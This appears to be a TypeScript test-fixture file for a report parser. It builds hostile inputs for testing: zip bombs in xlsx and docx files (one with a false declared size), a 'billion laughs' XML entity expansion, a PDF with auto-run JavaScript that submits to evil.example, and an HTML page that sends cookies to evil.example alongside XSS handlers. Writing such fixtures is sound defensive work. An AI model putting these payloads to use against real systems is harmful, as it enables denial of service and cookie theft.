import { readFileSync } from 'node:fs';
import { crc32, deflateRawSync } from 'node:zlib';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';

// Builders of hostile inputs, made from bytes at test time so nothing large sits in the repository.
const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');
export const PARSER_FIXTURES = path.join(repoRoot, 'libs/report-parser/fixtures');

export function fixture(rel: string): Buffer {
  return readFileSync(path.join(PARSER_FIXTURES, rel));
}

/** A real published text report: 平潭综合实验区公安局, 2024 (licensing 52, penalties 19, coercion 7). */
export function gaj2024Text(): string {
  return fixture('real/fujian-pingtan-gaj-2024/input.txt').toString('utf8');
}
export const GAJ_UNIT = '平潭综合实验区公安局';

/**
 * A zip written by hand with Node's native deflate (fflate takes seconds on 100 MB). `declaredSize`
 * overrides the uncompressed size written in both headers (a lying archive).
 */
export function zipOf(entries: Array<{ name: string; data: Buffer; declaredSize?: number }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const packed = deflateRawSync(e.data, { level: 1 });
    const crc = crc32(e.data);
    const size = e.declaredSize ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.length + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** An .xlsx whose one sheet inflates to `mb` MB of spaces (a real zip bomb, not a lying header). */
export function xlsxZipBomb(mb = 110): Buffer {
  return zipOf([
    { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><Types/>') },
    { name: 'xl/workbook.xml', data: Buffer.from('<?xml version="1.0"?><workbook/>') },
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(mb * 1024 * 1024, 0x20) },
  ]);
}

/**
 * A .docx whose word/document.xml inflates to `mb` MB while both zip headers declare 1 KB: a reader
 * that trusts the declared size for its limit and then inflates without a cap would be bombed.
 */
export function docxLyingSizeBomb(mb = 60): Buffer {
  return zipOf([
    { name: 'word/document.xml', data: Buffer.alloc(mb * 1024 * 1024, 0x20), declaredSize: 1024 },
  ]);
}

/** The sample .docx with a "billion laughs" DTD and the entity used in the text. */
export function docxBillionLaughs(sampleDocx: Buffer): Buffer {
  const files = unzipSync(new Uint8Array(sampleDocx));
  let xml = strFromU8(files['word/document.xml']);
  const dtd =
    '<!DOCTYPE w:document [<!ENTITY lol "lol">' +
    Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
    ).join('') +
    ']>';
  xml = xml.replace(/(<\?xml[^>]*\?>)?/, (decl) => `${decl}${dtd}`);
  xml = xml.replace(/<w:t>/, '<w:t>&lol9;');
  files['word/document.xml'] = strToU8(xml);
  return Buffer.from(zipSync(files));
}

/** A small PDF with an /OpenAction JavaScript action, written by hand. */
export function pdfWithJavaScript(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
    "<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example/'\\);) >>",
    null,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  const text = 'BT /F1 12 Tf 72 770 Td (Annual report 2023) Tj ET';
  objects[4] = `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
  let out = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** The text report wrapped in an HTML page with scripts, handlers and a javascript: link. */
export function htmlReportWithScripts(text: string): Buffer {
  const body = text
    .split('\n')
    .map((l) => `<p>${l.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</p>`)
    .join('\n');
  return Buffer.from(
    '<!doctype html><html><head><meta charset="utf-8"><title>年报</title>' +
      '<script>document.cookie && fetch("http://evil.example/?c=" + document.cookie)</script></head>' +
      `<body onload="alert('xss')"><a href="javascript:alert(1)">x</a><div class="article">${body}</div>` +
      '<script>alert("xss2")</script><img src=x onerror="alert(3)"></body></html>',
    'utf8',
  );
}
